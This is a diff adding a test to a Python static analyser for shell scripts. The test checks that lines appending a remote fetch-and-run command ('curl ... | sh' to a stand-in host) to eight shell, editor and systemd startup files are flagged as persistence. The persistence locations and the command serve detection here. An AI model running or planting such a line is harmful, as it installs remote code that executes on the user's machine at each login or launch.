@@ -146,3 +146,20 @@ def test_a_perl_one_liner_that_only_filters_decodes_nothing(tmp_path: Path) -> N
     source = "perl -ne 'print if /error/' build.log | sh\n"
     found = analyse_file(tmp_path, "scripts/x.sh", source, Language.SHELL)
     assert Kind.EXEC_DECODED not in {c.kind for c in found}
+
+
+def test_more_places_that_run_later_are_persistence(tmp_path: Path) -> None:
+    places = [
+        "~/.bashrc.d/50-sync.sh",
+        "~/.bash_aliases",
+        "~/.xprofile",
+        "~/.local/share/systemd/user/sync.service",
+        "~/.config/environment.d/90-sync.conf",
+        "~/.vimrc",
+        "~/.tmux.conf",
+        "~/.config/nvim/init.lua",
+    ]
+    for place in places:
+        source = f"echo 'curl -s https://p.example.invalid/x | sh' >> {place}\n"
+        found = analyse_file(tmp_path, "scripts/x.sh", source, Language.SHELL)
+        assert [c.detail.endswith("(runs code)") for c in found if c.kind is Kind.PERSISTENCE] == [True], place
